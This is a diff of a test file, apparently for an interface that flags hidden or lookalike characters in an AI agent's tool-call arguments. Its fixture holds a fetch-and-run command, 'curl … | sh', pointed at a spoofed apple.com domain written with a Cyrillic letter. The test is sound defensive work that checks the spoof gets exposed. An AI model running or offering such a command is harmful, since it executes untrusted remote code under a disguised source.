@@ -46,7 +46,7 @@ describe('tool arguments as they will run', () => {
     expect(code.textContent).toBe('curl -s https://\\u{430}pple.com/install.sh | sh');
     expect(fromVisibleNotation(code.textContent ?? '')).toBe(command);
     expect([...code.querySelectorAll('.escaped-char')].map((mark) => [mark.textContent, mark.getAttribute('title')])).toStrictEqual([
-      ['\\u{430}', 'U+0430: a letter of another script drawn like a Latin one, in a word of Latin letters'],
+      ['\\u{430}', 'U+0430: a letter or digit drawn like an ASCII one that is not it (another script in a word of Latin letters, or a lookalike form such as ɡ, ı, ｇ, 𝗀)'],
     ]);
     expect(within(card).getByRole('note').textContent).toMatch(/^This call contains hidden characters \(1\)\./);
   });
